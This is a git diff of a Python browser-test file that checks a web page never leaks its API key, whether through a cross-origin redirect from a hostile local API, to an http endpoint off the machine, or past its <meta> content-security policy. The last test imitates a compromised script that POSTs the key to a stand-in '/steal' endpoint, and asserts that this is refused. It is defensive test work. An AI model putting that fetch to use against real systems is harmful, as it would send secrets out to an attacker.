@@ -1,14 +1,16 @@
 """The page keeps its key on every path (issue #28): against a hostile API on loopback in headless Chromium,
 a keyed POST /predict answered with a 307 to another origin never carries the key there (fetch refuses the
-redirect; XMLHttpRequest would follow it, key and all), and an http API URL off this machine is refused."""
+redirect; XMLHttpRequest would follow it, key and all); an http API URL off this machine is refused; and
+the page's own `<meta>` policy, as `make page` writes it, keeps every request to the origins it names
+where the host sends no header."""
 
 from __future__ import annotations
 
 import functools
 import json
-import shutil
 import threading
-from collections.abc import Iterator
+import urllib.request
+from collections.abc import Callable, Iterator
 from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
@@ -18,9 +20,9 @@ from selenium.webdriver.remote.webdriver import WebDriver
 from selenium.webdriver.support.ui import WebDriverWait
 
 from inference.testing import signals
+from operations import page as page_command
 from tests.support.audio import wav_bytes
 from tests.support.browser import launch_chromium
-from tests.support.service import REPO
 
 KEY = "PAGE-SECRET-KEY"
 
@@ -108,16 +110,22 @@ def hostile_api(elsewhere: tuple[ThreadingHTTPServer, Recorder]) -> Iterator[tup
 
 
 @pytest.fixture()
-def page_origin(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
-    """The page's own files, served plainly (as anyone may host them) on a third origin: / and /page/*, as
-    `make serve` lays them out."""
-    root = tmp_path_factory.mktemp("site")
-    shutil.copy(REPO / "web" / "index.html", root / "index.html")
-    (root / "page").symlink_to(REPO / "web", target_is_directory=True)
-    handler = functools.partial(SimpleHTTPRequestHandler, directory=str(root))
-    handler.log_message = lambda *_: None  # type: ignore[attr-defined]
-    for server in serve(handler, "127.0.0.1"):  # type: ignore[arg-type]
-        yield f"http://127.0.0.1:{server.server_address[1]}"
+def host_page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[[list[str]], str]]:
+    """The page as `make page` writes it (its `<meta>` policy naming `connect_origins`), served plainly on a
+    third origin by a host that sends no header at all, as a static host may."""
+    hosts: list[Iterator[ThreadingHTTPServer]] = []
+
+    def host(connect_origins: list[str]) -> str:
+        root = tmp_path_factory.mktemp("site")
+        page_command.write_page(root, connect_origins)
+        handler = functools.partial(SimpleHTTPRequestHandler, directory=str(root))
+        handler.log_message = lambda *_: None  # type: ignore[attr-defined]
+        hosts.append(serve(handler, "127.0.0.1"))  # type: ignore[arg-type]
+        return f"http://127.0.0.1:{next(hosts[-1]).server_address[1]}"
+
+    yield host
+    for server in hosts:
+        next(server, None)
 
 
 @pytest.fixture()
@@ -148,13 +156,16 @@ def choose_clip(browser: WebDriver, tmp_path: Path) -> None:
 
 def test_a_redirect_from_the_api_never_carries_the_key_elsewhere(
     browser: WebDriver,
-    page_origin: str,
+    host_page: Callable[[list[str]], str],
     hostile_api: tuple[ThreadingHTTPServer, Recorder],
     elsewhere: tuple[ThreadingHTTPServer, Recorder],
     tmp_path: Path,
 ) -> None:
     api_server, api_seen = hostile_api
-    use_api(browser, page_origin, f"http://127.0.0.1:{api_server.server_address[1]}")
+    api_url = f"http://127.0.0.1:{api_server.server_address[1]}"
+    # Both origins named: what keeps the key here is the upload's own redirect rule, not the policy.
+    page_origin = host_page([api_url, f"http://127.0.0.2:{elsewhere[0].server_address[1]}"])
+    use_api(browser, page_origin, api_url)
     choose_clip(browser, tmp_path)
     WebDriverWait(browser, 30).until(lambda b: not b.find_element(By.ID, "error").get_attribute("hidden"))
     posts = [seen for seen in api_seen.seen if seen[0] == "POST"]
@@ -164,8 +175,38 @@ def test_a_redirect_from_the_api_never_carries_the_key_elsewhere(
     assert [seen for seen in elsewhere_seen.seen if seen[0] == "POST"] == []
 
 
-def test_an_http_api_off_this_machine_is_refused(browser: WebDriver, page_origin: str, tmp_path: Path) -> None:
-    use_api(browser, page_origin, "http://api.example.com/v1")
+def test_an_http_api_off_this_machine_is_refused(
+    browser: WebDriver, host_page: Callable[[list[str]], str], tmp_path: Path
+) -> None:
+    use_api(browser, host_page([]), "http://api.example.com/v1")
     choose_clip(browser, tmp_path)
     WebDriverWait(browser, 30).until(lambda b: not b.find_element(By.ID, "error").get_attribute("hidden"))
     assert "https" in browser.find_element(By.ID, "error").text
+
+
+FETCH = """
+const [url, method, key, done] = arguments;
+fetch(url, {method, headers: {"x-api-key": key}, body: method === "POST" ? "{}" : undefined})
+  .then(r => done("reached " + r.status), e => done("refused " + e.name));
+"""
+
+
+def test_the_page_carries_its_policy_where_the_host_sends_none(
+    browser: WebDriver,
+    host_page: Callable[[list[str]], str],
+    hostile_api: tuple[ThreadingHTTPServer, Recorder],
+    elsewhere: tuple[ThreadingHTTPServer, Recorder],
+) -> None:
+    """Even script running in the page (a compromised dependency, an injected tag) cannot send the key or
+    the audio to an origin the page's `<meta>` does not name, though the host sends no header; the origin
+    it names is reached."""
+    named = f"http://127.0.0.1:{hostile_api[0].server_address[1]}"
+    unnamed = f"http://127.0.0.2:{elsewhere[0].server_address[1]}/steal"
+    page = host_page([named])
+    with urllib.request.urlopen(f"{page}/", timeout=10) as answer:
+        assert answer.headers.get("Content-Security-Policy") is None, "the host sends no policy"
+    browser.get(f"{page}/")
+    browser.set_script_timeout(30)
+    assert browser.execute_async_script(FETCH, f"{named}/health", "GET", KEY) == "reached 200"
+    assert browser.execute_async_script(FETCH, unnamed, "POST", KEY) == "refused TypeError"
+    assert elsewhere[1].seen == [], "nothing reached an origin the page does not name"
